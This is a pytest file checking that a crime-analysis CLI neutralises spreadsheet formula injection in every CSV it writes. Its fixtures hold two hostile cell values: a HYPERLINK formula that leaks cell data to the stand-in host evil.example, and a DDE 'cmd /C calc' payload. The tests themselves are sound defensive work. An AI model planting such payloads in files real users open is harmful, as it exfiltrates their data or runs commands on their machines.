"""Formula injection in CSV files (issue 10, finding 8): every CSV the CLI writes quotes text a
spreadsheet would run, as the service's downloads do (one rule: pipelines/spreadsheet.py).

A ward set whose names are formulas and crimes on a street whose name is one are loaded; each
command that writes CSV must write them with a leading apostrophe, and leave numbers alone.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import geopandas as gpd
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from boundaries.sets import load_boundary_file
from boundaries.store import BoundaryStore
from cli.main import app
from pipelines.ingest.archive import ingest_archive
from pipelines.spreadsheet import spreadsheet_safe, spreadsheet_safe_table
from pipelines.store import CrimeStore
from tests.archive_fixtures import ArchiveBuilder, crime_line
from tests.service_town import HOT, WEST, build_town, ward_polygons

runner = CliRunner()
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SET = "formula-wards"
OTHER_FORCE = "avon-and-somerset"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The service town, a ward set named with formulas, and 30 crimes on a formula street."""
    root = tmp_path_factory.mktemp("formulas")
    data_dir, _ = build_town(root)
    frame = gpd.GeoDataFrame(
        {"WD19CD": [WEST, "+E05000002"], "WD19NM": [LINK, SUM]},
        geometry=ward_polygons(),
        crs="EPSG:4326",
    )
    path = root / "formula-wards.geojson"
    frame.to_file(path, engine="pyogrio")
    boundary_set = load_boundary_file(path, HOSTILE_SET, "ward", vintage="2019")
    BoundaryStore(data_dir).save(boundary_set)
    archive = ArchiveBuilder(root / "hostile-archive")
    lines = [
        crime_line(
            "2019-06",
            crime_id=f"formula-{i}",
            category="Burglary",
            # Geocoded one by one along the street (a few cm apart, one H3 cell), not snapped
            # to one police.uk map point: the month stays resolvable at resolution 9
            # (pipelines/analysis/map_points.py) and the formula street stays one cell.
            longitude=f"{HOT[0] + i * 1e-6:.6f}",
            latitude=f"{HOT[1]:.6f}",
            location='"' + LINK.replace('"', '""') + '"',  # a CSV field, quoted
        )
        for i in range(30)
    ]
    archive.write(OTHER_FORCE, "2019-06", lines)
    ingest_archive(CrimeStore(data_dir), archive.root)
    return data_dir


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _no_formula_cell(rows: list[dict[str, str]]) -> None:
    """No text cell would run: each starts with none of = + - @ tab CR, or is a number."""
    for row in rows:
        for value in row.values():
            if value and value[0] in "=+-@\t\r":
                float(value)  # only a negative number may start with "-"


def _invoke(args: list[str]) -> str:
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_boundaries_counts_csv(store: Path) -> None:
    text = _invoke(
        ["boundaries", "counts", HOSTILE_SET, "--format", "csv", "--data-dir", str(store)]
    )
    rows = _rows(text)
    _no_formula_cell(rows)
    assert {"'" + LINK, "'" + SUM} <= {row["name"] for row in rows}
    assert "'+E05000002" in {row["code"] for row in rows}


def test_boundaries_cover_csv(store: Path) -> None:
    args = ["boundaries", "cover", HOSTILE_SET, "--resolution", "9", "--format", "csv"]
    rows = _rows(_invoke([*args, "--data-dir", str(store)]))
    _no_formula_cell(rows)
    assert "'+E05000002" in {value for row in rows for value in row.values()}


def test_allocate_csv(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "allocation.csv"
    args = ["allocate", "--boundaries", HOSTILE_SET, "--units", "10", "--measure", "count"]
    _invoke([*args, "--format", "csv", "-o", str(out), "--data-dir", str(store)])
    rows = _rows(out.read_text(encoding="utf-8"))
    _no_formula_cell(rows)
    assert {"'" + LINK, "'" + SUM} <= {value for row in rows for value in row.values()}
    assert sum(int(row["units"]) for row in rows) == 10  # the numbers are numbers still


def test_analyse_csv_area_names_and_streets(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "hotspots.csv"
    args = ["analyse", "--boundaries", HOSTILE_SET, "--permutations", "99", "-o", str(out)]
    args += ["--from", "2019-06", "--to", "2019-06"]  # the formula street outnumbers High Street
    _invoke([*args, "--data-dir", str(store)])
    rows = _rows(out.read_text(encoding="utf-8"))
    _no_formula_cell(rows)
    assert "'" + LINK in {row["area_name"] for row in rows}
    assert any(row["streets"].startswith("'" + LINK) for row in rows)


def test_export_csv(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "crimes.csv"
    _invoke(["export", "--force", OTHER_FORCE, "-o", str(out), "--data-dir", str(store)])
    rows = _rows(out.read_text(encoding="utf-8"))
    assert len(rows) == 30
    _no_formula_cell(rows)
    assert {row["location"] for row in rows} == {"'" + LINK}


def test_the_rule() -> None:
    assert spreadsheet_safe("-12") == "'-12" and spreadsheet_safe(-12) == -12
    assert spreadsheet_safe("Town centre") == "Town centre" and spreadsheet_safe(None) is None
    table = pa.table({"name": [LINK, "ok", None, "\t=1"], "n": [-1, 2, 3, 4]})
    safe = spreadsheet_safe_table(table)
    assert safe["name"].to_pylist() == ["'" + LINK, "ok", None, "'\t=1"]
    assert safe["n"].to_pylist() == [-1, 2, 3, 4]
